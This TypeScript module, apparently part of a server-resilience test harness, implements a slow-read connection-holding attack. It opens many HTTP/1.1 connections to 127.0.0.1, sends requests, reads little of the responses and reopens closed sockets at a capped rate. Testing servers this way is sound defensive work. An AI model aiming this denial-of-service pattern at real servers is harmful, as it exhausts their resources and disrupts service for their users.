import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../attack.ts';

interface HoldOptions {
  readonly connections: number;
  /** Sent once per connection. */
  readonly request: string;
  /** Bytes of the answer read every READ_EVERY_MS. Default 0. */
  readonly readBytes?: number;
  /** Time after which a connection is closed and reopened. Default: it stays open. */
  readonly leaveMs?: number;
}

const READ_EVERY_MS = 50;
/** Total number of connections reopened per second. */
const RECONNECTS_PER_SECOND = 30;

/** HTTP/1.1 connections that request much and read little. Reopens connections that the server closes. */
export function holdRequests(name: string, target: Attack['target'], options: HoldOptions): Attack {
  const { connections, request, readBytes = 0, leaveMs = Number.POSITIVE_INFINITY } = options;
  const open = (port: number): { readonly socket: Socket; readonly since: number } => {
    const socket = connect(port, '127.0.0.1').pause();
    socket.on('error', () => socket.destroy());
    socket.write(request);
    return { socket, since: performance.now() };
  };
  return {
    name,
    target,
    async run(port, stopped) {
      const held = Array.from({ length: connections }, () => open(port));
      const startedAt = performance.now();
      let reconnects = 0;
      while (!stopped()) {
        const allowed = ((performance.now() - startedAt) * RECONNECTS_PER_SECOND) / 1_000;
        for (const [index, { socket, since }] of held.entries()) {
          if (readBytes > 0) socket.read(readBytes);
          if (performance.now() - since > leaveMs) socket.destroy();
          if (socket.destroyed && reconnects < allowed) {
            held[index] = open(port);
            reconnects++;
          }
        }
        await delay(READ_EVERY_MS);
      }
      for (const { socket } of held) socket.destroy();
      return [];
    },
  };
}
